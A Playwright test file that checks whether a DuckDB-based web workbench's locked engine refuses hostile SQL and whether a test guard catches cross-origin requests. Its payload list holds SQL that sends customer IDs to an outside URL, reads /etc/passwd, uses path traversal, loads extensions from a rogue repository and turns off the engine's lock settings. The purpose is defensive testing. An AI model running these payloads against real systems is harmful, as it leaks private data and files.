import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as bare } from '@playwright/test';
import { ENGINE_LOCK } from '../../src/lib/errors.ts';
import { expect, guardContext, test, WorkbenchPage } from './fixtures.ts';
import { UNLOCKED_URL } from './ports.ts';

/** A loopback server that only records what reaches it. */
async function startLogger(): Promise<{ server: Server; origin: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

/** Why the lock refuses a payload, as its message must say. */
const NETWORK_OR_DISK = /never reads from or sends to the network or your disk/;
const NO_EXTENSIONS = /loads no DuckDB extensions/;
const SETTINGS_LOCKED = /settings \(here \w+\) are locked/;

interface Payload {
  /** Unique, and part of every URL the payload names, so each request on the logger is traced to its payload. */
  id: string;
  /** `at` is the logger's address plus `/<id>`. */
  sql: (at: string) => string;
  /** What the locked build's refusal must say besides naming the lock. */
  locked: RegExp;
  /**
   * Whether the unlocked build sends a request for it. A statement that makes no request (a setting,
   * a local path) cannot show up on the logger, so its check is the refusal text alone.
   */
  requests: boolean;
  /** What the request must carry when the payload builds its URL from the customers' data. */
  carries?: RegExp;
}

/** Ways SQL from a user or a link could try to send data out, read the disk, or unlock the engine. */
const PAYLOADS: Payload[] = [
  { id: 'read-csv', sql: (at) => `SELECT * FROM read_csv('${at}/data.csv?d=secret')`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'read-text', sql: (at) => `SELECT * FROM read_text('${at}/text')`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'exfil-variable',
    sql: (at) =>
      `SET VARIABLE u = (SELECT '${at}/exfil?d=' || string_agg(customer_id, ';') FROM (SELECT customer_id FROM orders LIMIT 5)); ` +
      `SELECT * FROM read_csv(getvariable('u'))`,
    locked: NETWORK_OR_DISK,
    requests: true,
    carries: /\?d=C\d+;C\d+/,
  },
  {
    id: 'exfil-query',
    sql: (at) =>
      `SET VARIABLE q = (SELECT 'SELECT * FROM read_text(''${at}/q?d=' || min(customer_id) || ''')' FROM orders); ` +
      `SELECT * FROM query(getvariable('q'))`,
    locked: NETWORK_OR_DISK,
    requests: true,
    carries: /\?d=C\d+/,
  },
  { id: 'read-blob', sql: (at) => `SELECT * FROM read_blob('${at}/blob')`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'glob', sql: (at) => `SELECT * FROM glob('${at}/*')`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'cte',
    sql: (at) => `WITH t AS (SELECT * FROM read_csv('${at}/cte.csv')) SELECT count(*) FROM t`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  {
    id: 'in-subquery',
    sql: (at) => `SELECT count(*) FROM orders WHERE customer_id IN (SELECT a FROM read_csv('${at}/in.csv'))`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  { id: 'replacement-scan', sql: (at) => `SELECT * FROM '${at}/table.csv'`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'file-list', sql: (at) => `SELECT * FROM read_csv(['${at}/one.csv', '${at}/two.csv'])`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'union',
    sql: (at) => `SELECT * FROM read_text('${at}/a') UNION ALL SELECT * FROM read_text('${at}/b')`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  { id: 'sniff', sql: (at) => `SELECT * FROM sniff_csv('${at}/sniff.csv')`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'ctas',
    sql: (at) => `CREATE TEMP TABLE stolen AS SELECT * FROM read_csv('${at}/ctas.csv')`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  {
    id: 'copy-from',
    sql: (at) => `CREATE TEMP TABLE sink (a VARCHAR, b VARCHAR); COPY sink FROM '${at}/rows.csv' (HEADER)`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  { id: 'attach', sql: (at) => `ATTACH '${at}/remote.duckdb' AS remote`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'copy-to', sql: (at) => `COPY (SELECT * FROM orders) TO '${at}/copy.csv'`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'export-database', sql: (at) => `EXPORT DATABASE '${at}/dump'`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'load-url', sql: (at) => `LOAD '${at}/x.duckdb_extension'`, locked: NO_EXTENSIONS, requests: true },
  // Functions in extensions: the unlocked build downloads the extension from the repository set before each payload.
  { id: 'read-json', sql: (at) => `SELECT * FROM read_json('${at}/data.json')`, locked: NO_EXTENSIONS, requests: true },
  { id: 'read-ndjson', sql: (at) => `SELECT * FROM read_ndjson('${at}/data.ndjson')`, locked: NO_EXTENSIONS, requests: true },
  { id: 'read-parquet', sql: (at) => `SELECT * FROM read_parquet('${at}/data.parquet')`, locked: NO_EXTENSIONS, requests: true },
  { id: 'parquet-metadata', sql: (at) => `SELECT * FROM parquet_metadata('${at}/meta.parquet')`, locked: NO_EXTENSIONS, requests: true },
  // Last of the extension payloads: DuckDB remembers where json was installed from, for every later load.
  { id: 'install-from', sql: (at) => `INSTALL json FROM '${at}/install'; LOAD json`, locked: NO_EXTENSIONS, requests: true },
  // No request: the disk, and the settings that would open the engine.
  // DuckDB takes an upper-case scheme for a local path, so it asks no server.
  {
    id: 'upper-scheme',
    sql: (at) => `SELECT * FROM read_csv('${at.replace('http:', 'HTTP:')}/upper.csv')`,
    locked: NETWORK_OR_DISK,
    requests: false,
  },
  { id: 'disk', sql: () => `SELECT * FROM read_text('/etc/passwd')`, locked: NETWORK_OR_DISK, requests: false },
  { id: 'traversal', sql: () => `SELECT * FROM read_csv('uploads/../etc/hosts')`, locked: NETWORK_OR_DISK, requests: false },
  { id: 'external-access', sql: () => `SET enable_external_access = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'global-external-access', sql: () => `SET GLOBAL enable_external_access = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'unlock', sql: () => `SET lock_configuration = false`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'reset-lock', sql: () => `RESET lock_configuration`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'repository', sql: (at) => `SET custom_extension_repository = '${at}/repo'`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'autoinstall', sql: () => `SET autoinstall_known_extensions = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'autoload', sql: () => `SET autoload_known_extensions = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'community', sql: () => `SET allow_community_extensions = true`, locked: SETTINGS_LOCKED, requests: false },
  // Last: in the unlocked build it would narrow what the payloads after it may read.
  { id: 'allowed-directories', sql: (at) => `SET allowed_directories = ['${at}/']`, locked: SETTINGS_LOCKED, requests: false },
];

test('locked engine: no payload reaches the network, each refusal names the lock', async ({ app }) => {
  const logger = await startLogger();
  try {
    await app.open('?sample=retail-v1');
    await app.loaded();
    await app.section('Data');
    await expect(app.report).toBeVisible();
    for (const payload of PAYLOADS) {
      const sql = payload.sql(`${logger.origin}/${payload.id}`);
      const error = (await app.sql(sql)).getByRole('alert', { name: 'Query error' });
      await expect(error, sql).toContainText(`${ENGINE_LOCK}: `);
      await expect(error, sql).toContainText(payload.locked);
      console.log(`privacy: locked   ${payload.id}: ${await error.innerText()}`);
    }
    // Still usable afterwards.
    expect(Number((await app.sqlColumn('SELECT count(*) FROM orders'))[0])).toBeGreaterThan(0);
    expect(logger.hits).toEqual([]);
    console.log(`privacy: locked build, ${PAYLOADS.length} payloads, ${logger.hits.length} requests reached the logger`);
  } finally {
    logger.server.close();
  }
});

test('unlocked test build: every network payload reaches the logger, and no refusal there names the lock', async ({ page, guard }) => {
  const logger = await startLogger();
  // The only test allowed another origin: the unlocked build's own server and the loopback logger.
  guard.allow(UNLOCKED_URL);
  guard.allow(logger.origin);
  const hitsOf = (id: string) => logger.hits.filter((h) => h.split(' ')[1].startsWith(`/${id}/`));
  try {
    const app = new WorkbenchPage(page);
    await page.goto(`${UNLOCKED_URL}?sample=retail-v1`);
    await expect(page.getByRole('status', { name: 'Database engine' })).toContainText('UNLOCKED TEST BUILD', { timeout: 90_000 });
    await app.loaded();
    await app.section('Data');
    await expect(app.report).toBeVisible();
    for (const payload of PAYLOADS) {
      const at = `${logger.origin}/${payload.id}`;
      // An extension this payload needs is fetched from the logger (the default repository is another host).
      await expect((await app.sql(`SET custom_extension_repository = '${at}/repository'`)).getByRole('alert')).toHaveCount(0);
      const result = await app.sql(payload.sql(at));
      await expect(result.getByRole('alert', { name: 'Query error' }).filter({ hasText: ENGINE_LOCK }), payload.id).toHaveCount(0);
      if (payload.requests) {
        await expect.poll(() => hitsOf(payload.id).length, { message: payload.id, timeout: 30_000 }).toBeGreaterThan(0);
        if (payload.carries) expect(hitsOf(payload.id).join(' ')).toMatch(payload.carries);
      } else {
        expect(hitsOf(payload.id), payload.id).toEqual([]);
      }
      console.log(`privacy: unlocked ${payload.id}: ${hitsOf(payload.id).length} hits ${hitsOf(payload.id).join(' | ')}`);
    }
    const network = PAYLOADS.filter((p) => p.requests);
    expect(network.every((p) => hitsOf(p.id).length > 0)).toBe(true);
    console.log(
      `privacy: unlocked build, ${network.length} of ${PAYLOADS.length} payloads make requests, all ${network.length} reached the logger ` +
        `(${logger.hits.length} requests); ${PAYLOADS.length - network.length} make none and are checked by the locked refusal`,
    );
  } finally {
    logger.server.close();
  }
});

bare('the guard sees a page error, a CSP violation and a foreign request on any page, popup or worker', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ baseURL });
  try {
    const guard = await guardContext(context, new URL(baseURL!).origin);
    const nowhere = 'http://127.0.0.1:9';
    // The app's page, with its CSP: a blocked fetch, and an error no one catches.
    const app = await context.newPage();
    await app.goto('./');
    await app.evaluate((url) => void fetch(`${url}/csp-page`).catch(() => undefined), nowhere);
    await app.evaluate(() =>
      setTimeout(() => {
        throw new Error('uncaught on the app page');
      }),
    );
    // A worker under the app's CSP: its violation happens where no init script runs. It fetches when told to,
    // after the guard's listener went in as it started (a worker's own first statements run before any listener).
    const started = app.waitForEvent('worker');
    await app.evaluate(() => {
      const code = 'onmessage = (e) => void fetch(e.data).catch(() => undefined)';
      (window as unknown as { testWorker: Worker }).testWorker = new Worker(
        URL.createObjectURL(new Blob([code], { type: 'text/javascript' })),
      );
    });
    await (await started).evaluate(() => 'listening');
    await app.evaluate((url) => (window as unknown as { testWorker: Worker }).testWorker.postMessage(`${url}/csp-worker`), nowhere);
    // A page without CSP, opened by the test, and a popup it opens: their requests and a worker's.
    const other = await context.newPage();
    await other.goto('./favicon.svg');
    await other.evaluate((url) => void fetch(`${url}/other-page`).catch(() => undefined), nowhere);
    const popup = context.waitForEvent('page');
    await other.evaluate(() => void window.open('./favicon.svg?popup'));
    await (await popup).evaluate((url) => void fetch(`${url}/popup`).catch(() => undefined), nowhere);
    await other.evaluate((url) => {
      const code = `fetch('${url}/worker').catch(() => undefined)`;
      new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    }, nowhere);
    const expected = [
      /CSP violation: connect-src http:\/\/127\.0\.0\.1:9\/csp-page/,
      /page error on .*: uncaught on the app page/,
      /CSP violation \(console\): .*csp-worker/,
      /request to another origin: http:\/\/127\.0\.0\.1:9\/other-page/,
      /request to another origin: http:\/\/127\.0\.0\.1:9\/popup/,
      /request to another origin: http:\/\/127\.0\.0\.1:9\/worker/,
    ];
    for (const pattern of expected) {
      await expect
        .poll(() => guard.problems.some((p) => pattern.test(p)), { message: `${pattern} in ${guard.problems.join('\n')}` })
        .toBe(true);
    }
    console.log(`privacy: the guard saw ${guard.problems.length} problems:\n  ${guard.problems.join('\n  ')}`);
  } finally {
    await context.close();
  }
});
